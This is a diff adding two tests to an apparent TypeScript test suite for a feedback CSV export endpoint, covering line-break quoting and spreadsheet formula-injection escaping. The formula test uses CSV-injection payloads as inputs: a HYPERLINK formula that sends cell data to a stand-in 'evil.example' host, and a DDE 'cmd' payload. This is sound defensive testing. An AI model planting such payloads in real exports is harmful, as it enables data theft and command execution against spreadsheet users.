@@ -84,6 +84,30 @@ describe("GET /v1/feedbacks/export", () => {
     });
   });
 
+  test("CSV: a field with a line break alone, bare or CRLF, is quoted too: every record reads back whole", async () => {
+    const keys = [await createFeedback("Line\nbreak alone"), await createFeedback("Carriage\r\nreturn alone")];
+    for (const key of keys) await http.request("PATCH", `/v1/feedbacks/${key}`, { token: http.demo.tokens.admin, body: { tags: ["breaks"] } });
+    const res = await http.request("GET", "/v1/feedbacks/export?format=csv&tag=breaks", { token: http.demo.tokens.reader });
+    expect(parseCsv(res.body).map((row) => row.slice(0, 2))).toEqual([
+      ["key", "title"],
+      [keys[1], "Carriage\r\nreturn alone"],
+      [keys[0], "Line\nbreak alone"],
+    ]);
+    // Many readers (a spreadsheet, Python's csv) end a record at a bare line feed too: it is quoted.
+    expect(res.body).toContain(`${keys[0]},"Line\nbreak alone",`);
+  });
+
+  test("CSV: a cell a spreadsheet would run as a formula (=, +, -, @ first) is written after a ' and read as text", async () => {
+    const titles = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"];
+    const keys: string[] = [];
+    for (const title of titles) keys.push(await createFeedback(title));
+    for (const key of keys) await http.request("PATCH", `/v1/feedbacks/${key}`, { token: http.demo.tokens.admin, body: { tags: ["=formula"] } });
+    const res = await http.request("GET", "/v1/feedbacks/export?format=csv&tag=%3Dformula", { token: http.demo.tokens.reader });
+    const rows = parseCsv(res.body).slice(1);
+    expect(rows.map((row) => row[1]).sort()).toEqual(titles.map((t) => `'${t}`).sort());
+    expect(new Set(rows.map((row) => row[10]))).toEqual(new Set(["'=formula"]));
+  });
+
   test("JSON Lines: one feedback summary a line, with the list's filters and order", async () => {
     const [a, b] = [await createFeedback("jsonl first"), await createFeedback("jsonl second")];
     for (const key of [a, b]) await http.request("PATCH", `/v1/feedbacks/${key}`, { token: http.demo.tokens.admin, body: { tags: ["jsonl"] } });
